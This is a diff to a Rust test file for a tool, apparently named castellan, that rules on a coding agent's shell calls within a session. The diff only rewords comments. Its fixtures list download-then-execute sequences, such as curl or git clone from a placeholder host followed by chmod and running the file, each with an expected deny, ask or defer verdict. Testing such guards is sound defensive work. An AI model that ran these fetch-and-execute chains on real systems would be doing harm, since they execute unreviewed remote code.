@@ -1,4 +1,4 @@
-//! How files came to where they are, over the calls of a session, through hook and daemon.
+//! The origin of files, over the calls of a session, through hook and daemon.
 
 use std::fs;
 
@@ -16,7 +16,8 @@ const RULES: &str = "
   tags: [coding_agent_deny]
 ";
 
-/// Calls of one session, each done before the next; the last one is denied if it runs what was downloaded. `W` is the workspace.
+/// Calls of one session, each finished before the next. The last call is denied if it runs a downloaded file. `W` is
+/// the workspace.
 const STORIES: &[(&[&str], &str)] = &[
     (&["curl -o W/x https://a.example/x", "chmod +x W/x", "W/x"], "deny"),
     (&["cd W; curl -O https://a.example/x.sh", "bash W/x.sh"], "deny"),
@@ -37,7 +38,7 @@ const STORIES: &[(&[&str], &str)] = &[
     (&["git clone https://a.example/r W/r", "mv W/r W/tool", "bash W/tool/x.sh"], "deny"),
     (&["curl https://a.example/x", "bash W/own.sh"], "defer"),
     (&["curl -o W/x https://a.example/x", "bash W/own.sh"], "defer"),
-    // Asked about, as nobody has read what the session has put there.
+    // castellan asks, because nobody has read the files that the session wrote.
     (&["echo ls > W/x", "chmod +x W/x", "W/x"], "ask"),
     (&["zip W/a.zip W/own.sh", "unzip W/a.zip -d W/out", "bash W/out/own.sh"], "ask"),
 ];
@@ -64,7 +65,7 @@ fn what_was_downloaded_is_known_when_it_runs_calls_later() -> anyhow::Result<()>
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
-    // Of another session nothing is known.
+    // Nothing is known about the files of another session.
     let mut other = bash(&format!("{}/x", workspace.display()));
     other["session_id"] = "other".into();
     assert_eq!(understood(&judge(&home, &other)?), "defer");
